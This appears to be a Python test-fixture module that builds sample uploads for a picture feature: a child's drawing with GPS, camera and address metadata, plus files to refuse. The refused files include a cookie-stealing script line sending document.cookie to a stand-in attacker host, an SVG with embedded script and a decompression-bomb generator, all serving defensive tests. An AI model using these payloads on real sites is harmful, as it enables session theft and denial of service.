"""Files people might send as an absent voice's picture: a child's drawing carrying a phone's
location and camera, and the files that must be refused."""

from __future__ import annotations

import io

from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

GPS_IFD = 0x8825
MAKE, MODEL = 0x010F, 0x0110
ORIENTATION = 0x0112
CAMERA = "SpyPhone 9"


def _exif(orientation: int | None = None) -> Image.Exif:
    """EXIF naming a camera and where the photo was taken (a family's home)."""
    exif = Image.Exif()
    exif[MAKE] = CAMERA
    exif[MODEL] = "Pro Max"
    if orientation:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (42.0, 21.0, 30.5), 3: "W", 4: (83.0, 2.0, 47.1)})
    return exif


def drawing(size=(240, 160)) -> Image.Image:
    """A child's drawing of three houses."""
    image = Image.new("RGB", size, "white")
    pen = ImageDraw.Draw(image)
    for n, colour in enumerate(("red", "green", "blue")):
        left = 15 + n * (size[0] // 3)
        pen.rectangle((left, size[1] // 2, left + size[0] // 4, size[1] - 15), fill=colour)
        pen.polygon(
            ((left, size[1] // 2), (left + size[0] // 8, 20), (left + size[0] // 4, size[1] // 2)),
            fill="orange",
        )
    return image


def drawing_png_with_gps(size=(240, 160)) -> bytes:
    """The drawing as a PNG holding GPS and camera EXIF and a text comment."""
    info = PngInfo()
    info.add_text("Comment", "taken at 12 Elm Street")
    out = io.BytesIO()
    drawing(size).save(out, format="PNG", exif=_exif(), pnginfo=info)
    return out.getvalue()


def photo_jpeg_with_gps(size=(300, 200), orientation: int | None = None) -> bytes:
    """A phone photo of the drawing: JPEG with GPS, camera and an orientation."""
    out = io.BytesIO()
    drawing(size).save(out, format="JPEG", exif=_exif(orientation), quality=90)
    return out.getvalue()


def gif() -> bytes:
    """A GIF (not a type fttm keeps)."""
    out = io.BytesIO()
    drawing((40, 30)).save(out, format="GIF")
    return out.getvalue()


def webp() -> bytes:
    """A WebP picture (not a type fttm keeps)."""
    out = io.BytesIO()
    drawing((40, 30)).save(out, format="WEBP")
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SCRIPT = b"<script>document.location='https://evil.invalid/?c='+document.cookie</script>"
NOT_AN_IMAGE = bytes(range(256)) * 40  # random-looking bytes, named .png
TRUNCATED_PNG = drawing_png_with_gps()[:200]  # a PNG's start, then nothing


def too_large() -> bytes:
    """A PNG just over 5 MB (noise does not compress)."""
    import os

    return b"\x89PNG\r\n\x1a\n" + os.urandom(5 * 1024 * 1024 + 10)


def bomb() -> bytes:
    """A tiny PNG that unpacks into a huge picture (a decompression bomb)."""
    out = io.BytesIO()
    Image.new("1", (12000, 12000)).save(out, format="PNG", optimize=True)
    return out.getvalue()


def metadata_of(data: bytes) -> dict:
    """What a saved picture still says besides its pixels: EXIF, GPS, text and ICC."""
    image = Image.open(io.BytesIO(data))
    exif = image.getexif()
    return {
        "exif": dict(exif),
        "gps": dict(exif.get_ifd(GPS_IFD)),
        "info": {k: v for k, v in image.info.items() if k not in ("dpi",)},
        "format": image.format,
        "size": image.size,
    }
